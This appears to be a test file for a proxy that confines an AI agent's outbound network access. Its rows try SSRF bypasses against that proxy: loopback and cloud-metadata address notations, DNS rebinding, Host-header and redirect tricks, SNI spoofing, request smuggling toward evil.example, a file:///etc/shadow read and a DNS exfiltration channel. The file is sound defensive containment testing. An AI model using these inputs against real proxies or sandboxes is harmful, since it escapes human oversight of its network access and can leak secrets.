import { request } from "node:http";
import { connect as connectTls } from "node:tls";
import { exchange, throughProxy } from "../inside/net.ts";
import { cageRow, type CageRow } from "../row.ts";

/**
 * The proxy as a way to what the list does not grant. The attacker's config lists some names under `.redteam.test`, so
 * what is refused here is not refused for want of an entry. `internet.ts` has their addresses.
 */

const ADDRESSES = "the proxy's check of every address";
const LIST = "the list of hosts";
const NAME = "the check of the TLS server name";
const PRIVATE = /is a private address/;
const RESOLVES = /resolves to a private address/;
const UNLISTED = /is not on this agent's egress list/;

const fromCage = cageRow("agent", "egress");

const get = (url: string, ...headers: string[]): Promise<string> =>
  throughProxy([`GET ${url} HTTP/1.1`, `Host: ${url.split("/")[2]}`, "Connection: close", ...headers]);
const connect = (authority: string): Promise<string> =>
  throughProxy([`CONNECT ${authority} HTTP/1.1`, `Host: ${authority}`, "Connection: close"]);

/** Tries an address with and without TLS. Rejects with the refusal if both are refused. */
async function bothWays(host: string, port: number): Promise<string> {
  const first = await get(`http://${host}:${port}/`).catch((error: unknown) => error as Error);
  if (typeof first === "string") return first;
  return connect(`${host}:${port}`);
}

/** Names that are listed, with what the name server answers for them. */
const LISTED: readonly [id: string, what: string][] = [
  ["loopback", "the host's loopback"],
  ["private", "a private range"],
  ["metadata", "the metadata service"],
  ["mapped", "an IPv4 loopback in an IPv6 address"],
  ["loopback6", "the IPv6 loopback"],
  ["local6", "a private IPv6 address"],
  ["mixed", "a public and a private address"],
  ["any", "the address of every interface"],
];

/** Notations of the host's loopback. */
const LITERALS: readonly [id: string, host: string][] = [
  ["dotted", "127.0.0.1"],
  ["whole-net", "127.9.9.9"],
  ["decimal", "2130706433"],
  ["octal", "0177.0.0.1"],
  ["hex", "0x7f000001"],
  ["hex-dotted", "0x7f.0.0.1"],
  ["short", "127.1"],
  ["zero", "0"],
  ["zeros", "0.0.0.0"],
  ["six", "[::1]"],
  ["six-mapped", "[::ffff:127.0.0.1]"],
  ["six-mapped-hex", "[::ffff:7f00:1]"],
  ["six-translated", "[64:ff9b::7f00:1]"],
  ["localhost", "localhost"],
  ["localhost-dot", "LOCALHOST."],
  ["below-localhost", "x.localhost"],
  ["metadata-literal", "169.254.169.254"],
];

/** Opens a tunnel to the listed host, sends a hello in this name, and rejects with what ends it. */
function hello(servername: string | undefined): Promise<string> {
  const proxy = new URL(process.env["HTTPS_PROXY"] ?? "");
  return new Promise((resolve, reject) => {
    const asked = request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: "public.redteam.test:443" });
    asked.once("error", reject);
    asked.once("connect", (answer, socket) => {
      if (answer.statusCode !== 200) return reject(new Error(`the tunnel was refused: ${answer.statusCode}`));
      const tls = connectTls({ socket, rejectUnauthorized: false, ...(servername === undefined ? {} : { servername }) });
      tls.once("error", (error) => {
        // The server behind the tunnel speaks no TLS: its answer means that the hello arrived.
        if (/wrong version|packet length|WRONG_VERSION/i.test(`${error.message}`)) resolve("the hello arrived");
        else reject(error);
      });
      tls.once("secureConnect", () => resolve("connected"));
    });
    asked.end();
  });
}

export const egressRows: readonly CageRow[] = [
  {
    ...fromCage("listed", "read from a listed host", LIST, /^$/, () => get("http://public.redteam.test/")),
    contained: "the operator has granted it",
    proof(world) {
      if (!world.web.some(({ method, url }) => method === "GET" && url === "/")) throw new Error("nothing arrived");
      return "it arrived there: the rows below have a working proxy";
    },
  },
  {
    ...fromCage("listed-tls", "speak TLS with a listed host", NAME, /^$/, () => hello("public.redteam.test")),
    contained: "the operator has granted it",
  },
  ...LISTED.map(([id, what]) =>
    fromCage(`name-${id}`, `reach ${what} through a listed name`, ADDRESSES, RESOLVES, ({ host }) =>
      bothWays(`${id}.redteam.test`, host.port),
    ),
  ),
  fromCage(
    "rebinding",
    "let a listed name change its address between look-up and connection",
    "one look-up for each connection",
    /public address only.*resolves to a private address/,
    async ({ host }) => {
      const words = await exchange(
        { host: "127.0.0.1", port: Number(new URL(process.env["HTTP_PROXY"] ?? "").port) },
        `GET http://rebind.redteam.test:${host.port}/ HTTP/1.1\r\nHost: rebind.redteam.test\r\nConnection: close\r\n\r\n`,
      );
      if (!words.includes("the web")) return words;
      const second = await get(`http://rebind.redteam.test:${host.port}/`).catch((error: unknown) => error as Error);
      if (typeof second === "string") return second;
      throw new Error(`the public address only; then: ${second.message}`);
    },
  ),
  ...LITERALS.map(([id, literal]) =>
    fromCage(
      `literal-${id}`,
      `reach the machine as ${literal}`,
      `${ADDRESSES}, and ${LIST}`,
      /is a private address|is not on this agent's egress list/,
      ({ host }) => bothWays(literal, host.port),
    ),
  ),
  fromCage("user-info", "hide the host behind a name before an @", ADDRESSES, PRIVATE, ({ host }) =>
    get(`http://public.redteam.test@127.0.0.1:${host.port}/`),
  ),
  fromCage("host-header", "name a listed host only in the Host header", ADDRESSES, PRIVATE, ({ host }) =>
    throughProxy([`GET http://127.0.0.1:${host.port}/ HTTP/1.1`, "Host: public.redteam.test", "Connection: close"]),
  ),
  fromCage("unlisted", "reach a host that is not listed", LIST, UNLISTED, () => connect("example.com:443")),
  fromCage(
    "unlisted-port",
    "reach another port of a listed host",
    LIST,
    /port 22 of public.redteam.test is not on this agent's egress list/,
    () => connect("public.redteam.test:22"),
  ),
  fromCage("below-listed", "reach a name below a listed one", LIST, UNLISTED, () => connect("x.public.redteam.test:443")),
  fromCage("lookalike", "reach a name that ends as a listed one", LIST, UNLISTED, () => connect("evilpublic.redteam.test:443")),
  fromCage("null-name", "cut a name with a NUL byte", LIST, /40[03]/, () => connect("public.redteam.test%00.evil.example:443")),
  fromCage("redirect", "follow a redirect of a listed host to the machine", ADDRESSES, PRIVATE, async () => {
    const answer = await exchange(
      { host: "127.0.0.1", port: Number(new URL(process.env["HTTP_PROXY"] ?? "").port) },
      "GET http://public.redteam.test/redirect HTTP/1.1\r\nHost: public.redteam.test\r\nConnection: close\r\n\r\n",
    );
    const to = /^location: (.*)$/im.exec(answer)?.[1]?.trim();
    if (to === undefined) return `there was no redirect: ${answer.split("\r\n")[0]}`;
    return get(to);
  }),
  fromCage("server-name", "name another host inside of TLS", NAME, /unrecognized.name/i, () => hello("evil.example")),
  fromCage("no-server-name", "name no host inside of TLS", NAME, /unrecognized.name/i, () => hello(undefined)),
  fromCage("no-tls", "speak another protocol in a tunnel", "a tunnel carries TLS only", /closed without an answer/, async () => {
    const proxy = new URL(process.env["HTTPS_PROXY"] ?? "");
    const answer = await exchange(
      { host: proxy.hostname, port: Number(proxy.port) },
      "CONNECT public.redteam.test:443 HTTP/1.1\r\nHost: public.redteam.test:443\r\n\r\nGET /tunnelled HTTP/1.1\r\nHost: public.redteam.test\r\n\r\n",
    );
    if (/^HTTP\/1\.1 200 Connection Established\s*$/.test(answer)) throw new Error("closed without an answer");
    return answer;
  }),
  fromCage("post", "send a body in the clear", "GET and HEAD only", /405 Method Not Allowed/, () =>
    throughProxy([
      "POST http://public.redteam.test/ HTTP/1.1",
      "Host: public.redteam.test",
      "Content-Length: 0",
      "Connection: close",
    ]),
  ),
  {
    ...fromCage("smuggling", "smuggle a request behind a GET", "the proxy writes its own request", /^$/, () =>
      throughProxy([
        "GET http://public.redteam.test/smuggling HTTP/1.1",
        "Host: public.redteam.test",
        "Connection: close, X-Evil",
        "X-Evil: 1",
        "Upgrade: websocket",
        "Content-Length: 44",
        "",
        "POST /smuggled HTTP/1.1",
        "Host: evil.example",
      ]),
    ),
    contained: "the listed host gets a GET without a body and with listed headers",
    proof(world) {
      const [seen] = world.web.filter(({ url }) => url === "/smuggling");
      const { headers = {} } = seen ?? {};
      if (!seen || "x-evil" in headers || "upgrade" in headers || "content-length" in headers)
        throw new Error(JSON.stringify(headers));
      if (world.web.some(({ method }) => method !== "GET")) throw new Error("another request arrived");
      return "one GET arrived";
    },
  },
  fromCage("other-scheme", "read a file through the proxy", "http:// only", /400 Bad Request/, () =>
    throughProxy(["GET file:///etc/shadow HTTP/1.1", "Host: public.redteam.test", "Connection: close"]),
  ),
  {
    ...fromCage("dns-channel", "carry data out in the names that the daemon resolves", LIST, UNLISTED, ({ token }) =>
      connect(`${token}.evil.example:443`),
    ),
    proof(world, { token }) {
      const { lookups } = world;
      const foreign = lookups.filter((name) => !name.endsWith(".redteam.test") || name.includes(token));
      if (foreign.length > 0) throw new Error(`these were looked up: ${foreign.join(", ")}`);
      return `only listed names were looked up, in ${lookups.length} look-ups`;
    },
  },
];
